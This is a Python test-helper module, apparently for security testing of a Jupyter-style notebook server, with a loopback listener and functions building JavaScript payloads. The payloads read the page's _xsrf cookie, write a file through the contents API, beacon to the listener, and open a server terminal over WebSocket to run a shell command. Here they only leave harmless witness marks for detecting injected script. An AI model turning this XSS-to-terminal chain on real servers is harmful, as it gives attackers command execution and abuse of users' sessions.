"""What an attack would leave behind: a file made through the server's API, a contact on loopback.

Each attack writes its own name, so that many run in one notebook and none is taken for another.
"""

from __future__ import annotations

import http.server
import threading
from types import TracebackType


class Listener:
    """A loopback HTTP listener that remembers the paths it was asked for."""

    def __enter__(self) -> Listener:
        paths = self.paths = set[str]()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                paths.add(self.path.partition("?")[0].strip("/"))
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, format: str, *args: object) -> None:
                """Say nothing: the paths are the log."""

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(5)


def script(name: str, listener: str) -> str:
    """JavaScript (without double quotes) that leaves the witnesses of attack `name`.

    It makes `w-NAME.txt` through the contents API with the login of whoever's page it runs in,
    and asks the listener for `js-NAME`.
    """
    return (
        f"(new Image()).src='{listener}/js-{name}';"
        f"fetch('/api/contents/w-{name}.txt',{{method:'PUT',headers:{{"
        "'X-XSRFToken':(document.cookie.match(/_xsrf=([^;]+)/)||[])[1],"
        "'Content-Type':'application/json'},"
        "body:JSON.stringify({type:'file',format:'text',content:'x'})})"
    )


def terminal_script(path: str) -> str:
    """JavaScript that opens a terminal on the server and makes the file `path` with it."""
    return (
        "fetch('/api/terminals',{method:'POST',headers:{'X-XSRFToken':"
        "(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]}}).then(r=>r.json()).then(t=>{"
        "const address=location.origin.replace('http','ws')+'/terminals/websocket/'+t.name;"
        "const s=new WebSocket(address);s.onmessage=()=>{s.onmessage=null;"
        f"s.send(JSON.stringify(['stdin','touch {path}\\r']))}}}})"
    )
